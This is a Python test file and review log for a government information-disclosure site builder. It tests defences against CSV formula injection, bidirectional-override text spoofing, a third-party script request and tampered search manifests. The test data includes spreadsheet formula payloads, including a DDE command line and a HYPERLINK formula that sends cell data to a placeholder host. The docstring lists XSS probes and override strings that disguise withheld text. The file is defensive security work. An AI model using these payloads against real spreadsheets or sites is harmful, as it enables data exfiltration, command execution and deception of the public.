"""Round twenty-seven (d) of the adversarial review (issue 24): what the public receives — site/'s pages, search
files and the search box in a real browser, sitemap, feeds, the CSV and JSON exports, the 404 page, the print
view, `disclosure report`'s files. Each test goes through the real command (`disclosure check`, `mkdocs build
--strict`, `disclosure merge`, a page in Chromium) or the function both the build and the merge call, and failed on
main (208ca25) before its fix.

Fixed —
- (pages/exports.py `runs_as_formula`) a CSV cell a spreadsheet may run as a formula though it starts with no ASCII
  = + - @ tab or CR: the full-width and small forms a Chinese input method types (＝HYPERLINK(…), ＋cmd|…, ＠SUM(…),
  －…, ﹦ ﹢ ﹣ ﹫; Excel and WPS in a Chinese or Japanese locale take them for the ASCII signs), and any sign after
  blanks or characters drawn as nothing (a leading space, ideographic space, zero-width space, byte-order mark,
  direction mark: what LibreOffice's and Google Sheets' import trim). A title, 发布机构 or 主题 so written went into
  catalogue.csv (and `disclosure report`'s and `disclosure import --report`'s CSVs, which quote with the same
  function) as it was, exit 0. Now prefixed with ' as the ASCII signs are; the merge refuses such a cell in a unit's
  catalogue.csv (E700, the same predicate).
- (overrides/main.html, assets/javascripts/disclosure/resize-observer.js) every page opened in a browser without
  ResizeObserver (Safari before 13.1, Chrome before 64, the older engines of phone browsers still common here) asked
  unpkg.com for resize-observer-polyfill: Material's bundle loads it at run time, so no check of the pages or the
  theme folder saw it (round eight left it open as "the theme's, not an editor's"). A request to another host on
  every page, the README's promise; where the shipped nginx or IIS policy blocks it, Material's scripts stopped
  ("Invalid script") and search with them. The pages now load a small stand-in first (reviewed, listed by digest),
  so the bundle never asks: seen in Chromium with ResizeObserver deleted before any script runs.
- (search/index.py `shown_cut`) a search result's snippet cut where the build cut it: a row's snippet is the summary (or
  the body's opening) in 120 characters, a passage the body in 3,000; the worker marks with "…" only the cuts it makes
  inside them, so a longer summary was shown as if whole, ending where the cut fell (……不得享受补贴 for ……不得享受补贴
  的情形除外) — for every result past the tenth (no passage is fetched for them) and for a document without body text.
  The build now ends a cut text with "…" within the same length (the merge reads past the mark: punctuation).
- (content/documents.py `reordered_lines`, content/schema.py `_printable`, text/controls.py `direction_controls`) a
  public document's text holding a character that changes the order it is shown in (a right-to-left override U+202E, an embedding, an isolate
  U+2066…U+2069, written or as &#x202E;): the 附注 written （开公予不件此） inside an override shows （此件不予公开）, a
  title …通知（开公请申依） shows …通知（依申请公开） (seen in Chromium), while the check, the build, search and every
  reader of notes read the characters as written: the document was published, exit 0, in check and strict build.
  Personal data was read in display order already (round four); the notes, withheld text and search were not. Now
  E102 on the line, in check and build: any front matter value and catalogue.yaml's texts (the field reader, as for
  control characters: an attachment's title, the agency's and a category's name), a public document's body, a
  hand-written index.md (where a 不予公开 document's whole body pasted reversed inside an override showed in
  reading order and passed round 26a's E500, which compares the characters as written). Marks
  (U+200E, U+200F, U+061C: they move no Chinese text) and right-to-left letters of a quotation stay.
- (content/withheld_text_copies.py `_source_held_whole`) the same reversal in an attachment: a .txt (or any file a
  program shows with its override) holding a 不予公开 document's whole body reversed inside U+202E shows it in reading
  order; E500 compared the attachment's text as written only, and the list was published with exit 0. The text is
  now looked up as written and reversed, as the merge's runs are (text/runs.py): E500. And an attachment's own 附注
  so written (（开公予不件此） inside an override in a .txt, a Word file): the notes' reader (content/disclosure_statements.py
  `withheld_statements`, text/controls.py `shown_in_order`) now reads every text as shown — overrides read back, the
  controls out — and the attachment reader's quick look keeps a piece naming 开公 backwards: E102 (check, build; the
  merge reads unit pages with the same reader).
- (platform/merge.py `_search_manifest_problem`) a unit's search manifest (search/units/<id>/manifest.json) whose
  categories say anything: the merge compared its version settings, counts and shards, not its `categories` (the
  names the page's 栏目 filter shows when a reader picks the department, round 26b's reader side) nor the facets
  filing each document under a category and year. A compromised department job renamed 政府信息公开指南 to
  "本局已撤销全部文件，请勿下载" and it merged with exit 0. Now the list must be catalogue.yaml's categories of the unit
  as its build writes them (search/index.py `manifest_categories`, one writer for both), and each facet a whole
  number in range (E700); catalogue.yaml's categories are part of what the incremental merge's trust is keyed on.
  Open: a facet pointing at another of the unit's own categories or years (the hand-over does not say each
  document's category; the documents found are still the unit's own, under another filter).

Tried and held (no change needed) —
- Material's search.highlight (`?h=img`, `?h=onerror` on a page whose code span shows `<img … onerror=…>`): the
  marked text is escaped again, the code stays text, no element is made;
- a 不予公开 document's body, 摘要, 主题, 发布机构 and 文号: in no file of site/ (pages, search rows, passages, term
  shards, t2s.json, MkDocs' search_index.json, which holds no documents); a word of search-dict.txt that no public
  document uses is in no file either (the dictionary is read by the build, never published);
- the print view hides only navigation (header, tabs, sidebars, pager, reading aids): nothing hidden on screen is
  printed;
- the search box in Chromium: a body whose code spans show `<img … onerror=…>`, `</mark><img …>` and `&lt;svg onload&gt;`,
  found by typing those words: the snippets show them as text, marks fall between characters, no element, no dialog;
  a page opened with a hash or query of markup (`#"]<img …>`, `?q=<img …>`, `?h=</mark><img …>`) or a nested
  quantifier (`?h=((((a*)*)*)…`): no dialog, no script error;
- catalogue.yaml's type names with `<svg/onload=…>` or quotes: escaped in every page, data in catalogue.json/.csv and
  the search rows (the worker escapes each field); department names (agency.departments) are printed nowhere;
- a document file named with # ? % ; a backslash or a space (a page address a server or browser reads otherwise): E111;
- the 附注 in 繁體, with a compatibility ideograph (U+F967 for 不), a zero-width space, a variation selector, a
  combining mark, ASCII brackets or spaces between its characters: E102;
- `disclosure report`: normative-in-force.csv and the office report list no withheld document (a 不予公开 规范性文件);
  the annual report's 主动公开 table counts public documents only;
- a browser without ResizeObserver, after the fix: search and the header work with the stand-in;
- a reader without JavaScript (Chromium, scripts off): home, listing, document and 404 pages show their text whole, the
  search filters stay hidden, no request leaves the host; a withheld document shows only as its listing row (by
  design), on screen and in print;
- 404.html prints no requested address (Material's "404 - Not found"); with site_url unset its assets are addressed
  from the host's root (README asks for site_url on a sub-path: documented, not another host).

Left —
- mkdocs.yml's printed values (site_name, copyright, site_description) are not read for direction controls (the
  office's file; numbers in them are read in display order);
- a catalogue.yaml category name holding markup: the build refuses it (E401/E403, nothing published), the check
  passes it;
- a paragraph given Material's class md-visually-hidden (`{: .md-visually-hidden }`) is hidden from sight, read by
  screen readers and in search snippets: the public source's own text, read by every check;
- in a worktree, tests that run the installed `disclosure` without PYTHONPATH (test_example_platform's check command,
  test_search_build's jieba test) use main's code, whose reviewed digest of main.html is the old one: E406 there until
  this branch is merged.
"""

from __future__ import annotations

import csv
import io

import pytest

from disclosure.pages.exports import formula_cell, spreadsheet_text

from .batchkit import Cases, cases_site, checked_and_built
from .browserkit import serve
from .sitekit import build, check, front_matter, interpretation, policy, write_site
from .test_merge_verifies import built, platform, refused  # noqa: F401  (the fixtures)
from .test_redteam6 import _seal

# What a spreadsheet may read as a formula: the full-width and small signs, and signs after blanks or invisible marks.
FORMULA_CELLS = ["＝HYPERLINK(\"http://e.example/?\"&A1,\"详情\")", "＋cmd|' /C calc'!A0", "－2+3", "＠SUM(1,2)",
                 "﹦1+1", "﹢1", "﹣1", "﹫A1", " =1+1", "\u3000＝1+1", "\u200b=1+1", "\ufeff+1", "\u200e@A1", "\u00a0-1"]
PLAIN_CELLS = ["测试县食品小作坊登记管理办法", "2024年", "（一）总则", "−2（减号）", "——说明", "＃1", ""]


@pytest.mark.parametrize("cell", FORMULA_CELLS)
def test_a_cell_a_spreadsheet_may_run_is_quoted_and_refused_in_a_units_export(cell):
    assert spreadsheet_text(cell) == "'" + cell
    assert formula_cell(_csv_line(cell)) == cell


@pytest.mark.parametrize("cell", PLAIN_CELLS)
def test_an_ordinary_cell_stays_as_written(cell):
    assert spreadsheet_text(cell) == cell
    assert formula_cell(_csv_line(cell)) is None


def _csv_line(cell: str) -> io.StringIO:
    """A unit's catalogue.csv row holding `cell` unquoted (as a compromised job writes it), read as the merge reads."""
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerow(["T001/2024-00001", cell])
    buffer.seek(0)
    return buffer


def test_full_width_formula_signs_in_front_matter_are_quoted_in_catalogue_csv(tmp_path):
    title = "＝HYPERLINK(\"http://e.example/?\"&A1,\"详情\")测试县食品小作坊登记管理办法"
    files = {"policies/a.md": policy(title=title, topics=["＋cmd|' /C calc'!A0"], publisher="＠测试县市场监督管理局"),
             "interpretations/a.md": interpretation(),
             "notices/b.md": front_matter("正文。\n", title="﹦1+1关于开展工作的通知", type="notice",
                                          index_no="T001/2024-00003", published="2024-03-06")}
    root = write_site(tmp_path / "site", files)
    run = build(root)
    assert run.returncode == 0, run.output
    rows = list(csv.DictReader(io.StringIO((root / "site" / "catalogue.csv").read_text("utf-8-sig"), newline="")))
    policy_row = next(row for row in rows if row["索引号"] == "T001/2024-00001")
    notice_row = next(row for row in rows if row["索引号"] == "T001/2024-00003")
    assert policy_row["标题"] == "'" + title
    assert policy_row["主题分类"] == "'＋cmd|' /C calc'!A0"
    assert policy_row["发布机构"] == "'＠测试县市场监督管理局"
    assert notice_row["标题"] == "'﹦1+1关于开展工作的通知"


# --- the theme in a browser without ResizeObserver ----------------------------------------------------------


@pytest.mark.browser
def test_a_browser_without_resize_observer_asks_no_other_host(tmp_path, browser):
    root = write_site(tmp_path / "site", {"policies/a.md": policy(), "interpretations/a.md": interpretation()},
                      search=True)
    run = build(root)
    assert run.returncode == 0, run.output
    context = browser.new_context(locale="zh-CN")
    page = context.new_page()
    page.add_init_script("delete window.ResizeObserver")   # as Safari 13.0 or Chrome 63 has none
    elsewhere, errors = [], []
    with serve(root / "site") as base:
        own = base.split("/zwgk/")[0]
        # Nothing leaves the machine: a request to another host is recorded and answered with an error.
        page.route("**/*", lambda route: route.continue_() if route.request.url.startswith(own)
                   else (elsewhere.append(route.request.url), route.abort()))
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.goto(base + "policies/a/")
        page.wait_for_load_state("load")
        page.set_viewport_size({"width": 700, "height": 800})   # a resize: the stand-in reports it
        page.wait_for_timeout(300)
        material_ran = page.evaluate("typeof ResizeObserver === 'function' && !!document.querySelector('.md-header')")
    context.close()
    assert elsewhere == [] and errors == [], (elsewhere, errors)
    assert material_ran


# --- text shown in another order than written -------------------------------------------------------------

R, P = "\u202e", "\u202c"   # right-to-left override, pop
REORDERED = {
    "a 附注 in an override": {"body": f"正文。\n\n{R}）开公予不件此（{P}\n"},
    "a 附注 written with references": {"body": "正文。\n\n（&#x202E;开公予不件此&#8236;）\n"},
    "a title's note": {"title": f"关于开展工作的通知（{R}开公请申依{P}）"},
    "a summary in an isolate": {"summary": "本件\u2067开公予不 此件\u2069。"},
    "an attachment's title": {"attachments": [{"file": "files/a.txt", "title": f"困难群众名单{R}）开公予不（{P}"}]},
}


def _reordered_notice(fields: dict) -> dict:
    fields = dict(fields)
    body = fields.pop("body", "正文。\n")
    fields.setdefault("title", "关于开展工作的通知")
    return {"policies/a.md": policy(), "interpretations/a.md": interpretation(), "notices/files/a.txt": "说明。\n",
            "notices/b.md": front_matter(body, type="notice", index_no="T001/2024-00003", published="2024-03-06", **fields)}


@pytest.mark.parametrize("case", REORDERED)
def test_text_shown_in_another_order_than_written_is_refused(reversals, case):
    _refused_as_reordered_in(reversals, case, "notices/b.md")


def test_a_category_name_shown_in_another_order_is_refused(tmp_path):
    import copy

    from .sitekit import MINI_CATALOGUE
    catalogue = copy.deepcopy(MINI_CATALOGUE)
    catalogue["catalogue"][2]["name"] = f"{R}告公知通{P}"   # 通知公告, on every page's navigation
    files = {"policies/a.md": policy(), "interpretations/a.md": interpretation()}
    _refused_as_reordered(write_site(tmp_path / "site", files, catalogue=catalogue), "catalogue.yaml:")


def test_a_withheld_body_pasted_reversed_into_a_section_page_is_refused(reversals):
    _refused_as_reordered_in(reversals, "a withheld body in a section page", "notices/index.md")


def _withheld_body_in_an_attachment() -> dict:
    return {"policies/a.md": policy(), "interpretations/a.md": interpretation(), **_withheld_reply(),
            "notices/b.md": front_matter("正文。\n", title="关于开展工作的通知", type="notice", index_no="T001/2024-00003",
                                         published="2024-03-06", attachments=[{"file": "files/a.txt", "title": "说明"}]),
            "notices/files/a.txt": f"{R}{SECRET[::-1]}{P}\n"}


def test_a_withheld_body_reversed_in_an_attachment_is_refused(reversals):
    for run in reversals:
        assert run.run.returncode != 0 and "Traceback" not in run.run.output, run.run.output
        assert any(" E500 " in line for line in run.lines("a withheld body in an attachment", "notices/b.md")), run.run.output


def _note_reversed_in_an_attachment() -> dict:
    return {"policies/a.md": policy(), "interpretations/a.md": interpretation(),
            "notices/b.md": front_matter("正文。\n", title="关于开展工作的通知", type="notice", index_no="T001/2024-00003",
                                         published="2024-03-06", attachments=[{"file": "files/a.txt", "title": "通知原文"}]),
            "notices/files/a.txt": f"正文内容。\n\n（{R}开公予不件此{P}）\n"}   # shows （此件不予公开）


def test_an_attachments_note_reversed_in_an_override_is_refused(reversals):
    for run in reversals:
        assert run.run.returncode != 0 and "Traceback" not in run.run.output, run.run.output
        assert any(" E102 " in line and "（此件不予公开）" in line
                   for line in run.lines("a note reversed in an attachment", "notices/b.md")), run.run.output


SECRET = "经研究，决定对申请人张某某的补助申请不予批准，原因是其家庭收入超过本县最低生活保障标准的两倍以上。"


def _withheld_reply() -> dict:
    return {"notices/w.md": front_matter(SECRET + "\n", title="关于张某某补助申请的答复", type="notice",
                                         index_no="T001/2024-00009", published="2024-03-06", disclosure="不予公开",
                                         reason="涉及个人隐私")}


def _refused_as_reordered(root, where: str) -> None:
    for run in (check(root), build(root)):
        assert run.returncode != 0 and any(line.startswith(where) and " E102 " in line and "显示顺序" in line
                                           for line in run.coded_lines()), run.output
    assert not (root / "site").exists()


@pytest.fixture(scope="module")
def reversals(tmp_path_factory) -> tuple[Cases, Cases]:
    """Every case above whose site has the usual catalogue, each in a folder of its own (tests/batchkit.py; the
    withheld reply a case copies from is in its folder too): checked once, built once."""
    cases = {case: _reordered_notice(fields) for case, fields in REORDERED.items()}
    cases["a withheld body in a section page"] = {
        "policies/a.md": policy(), "interpretations/a.md": interpretation(), **_withheld_reply(),
        "notices/index.md": f"# 通知公告\n\n{R}{SECRET[::-1]}{P}\n"}   # shows the withheld body in reading order
    cases["a withheld body in an attachment"] = _withheld_body_in_an_attachment()
    cases["a note reversed in an attachment"] = _note_reversed_in_an_attachment()
    return checked_and_built(cases_site(tmp_path_factory.mktemp("reversals"), cases))


def _refused_as_reordered_in(reversals: tuple[Cases, Cases], case: str, name: str) -> None:
    """`_refused_as_reordered` for one case of the shared site: its own file's E102 line, in the check and the build."""
    for run in reversals:
        assert run.run.returncode != 0 and "Traceback" not in run.run.output, run.run.output
        assert any(" E102 " in line and "显示顺序" in line for line in run.lines(case, name)), run.run.output
    assert not (reversals[1].root / "site").exists()


def test_right_to_left_quotations_and_marks_stay(tmp_path):
    body = "维吾尔文名称为“ئۇيغۇر”，阿拉伯文为“العربية”。\n\n2024\u200e年3月5日\u200f印发。\n"
    files = {"policies/a.md": policy(body=body), "interpretations/a.md": interpretation()}
    run = build(write_site(tmp_path / "site", files))
    assert run.returncode == 0, run.output


# --- the search result's snippet, where the build cut it ---------------------------------------------------


def test_a_summary_or_body_cut_for_search_ends_in_an_ellipsis(tmp_path):
    import json

    from disclosure.search.index import PASSAGE_SOURCE_CHARS, SNIPPET_CHARS
    summary = "本办法所称补贴，是指" + "对符合条件的申请人按月发放的生活补助，" * 8 + "但有下列情形之一的除外。"
    body = "".join(f"第{n}条 对符合条件的申请人按月发放生活补助，具体标准由县财政部门另行公布。\n\n" for n in range(1, 120))
    files = {"policies/a.md": policy(summary=summary, body=body), "interpretations/a.md": interpretation()}
    root = write_site(tmp_path / "site", files, search=True)
    run = build(root)
    assert run.returncode == 0, run.output
    search = root / "site" / "search"
    rows = {row[0]: row for row in json.loads((search / "d" / "0.json").read_text("utf-8"))}
    snippet = rows["policies/a/"][5]
    assert len(snippet) <= SNIPPET_CHARS and snippet.endswith("…") and summary.startswith(snippet[:-1])
    number = list(rows).index("policies/a/")
    passage = json.loads((search / "x" / f"{number}.json").read_text("utf-8"))
    assert len(passage) <= PASSAGE_SOURCE_CHARS and passage.endswith("…")
    whole = rows["interpretations/a/"][5]   # a short body: shown whole, no mark
    assert whole and not whole.endswith("…")


# --- a unit's search manifest as a compromised job writes it ------------------------------------------------

SEARCH_MANIFEST = "build/units/jyj/search/units/jyj/manifest.json"
MANIFEST_EDITS = {
    "a category renamed": (lambda data: data["categories"][0].__setitem__(1, "本局已撤销全部文件，请勿下载"),
                           "栏目与 catalogue.yaml 中本单位的栏目不同"),
    "a category added": (lambda data: data["categories"].append(["x", "重要通知：请拨打电话", -1]),
                         "栏目与 catalogue.yaml 中本单位的栏目不同"),
    "a facet past the categories": (lambda data: data["category"].__setitem__(0, 99), "各文件的栏目或年份"),
    "a year that is no number": (lambda data: data["year"].__setitem__(0, "2025年（已撤销）"), "各文件的栏目或年份"),
}


@pytest.mark.parametrize("edit, says", MANIFEST_EDITS.values(), ids=MANIFEST_EDITS)
def test_a_units_search_manifest_with_other_categories_is_refused(platform, edit, says):
    import json

    path = platform / SEARCH_MANIFEST
    data = json.loads(path.read_text("utf-8"))
    edit(data)
    path.unlink()   # a hard link to site/'s copy after the merge
    path.write_text(json.dumps(data, ensure_ascii=False, separators=(",", ":")), "utf-8")
    _seal(platform)
    refused(platform, f"{SEARCH_MANIFEST}:1: E700 ", says)
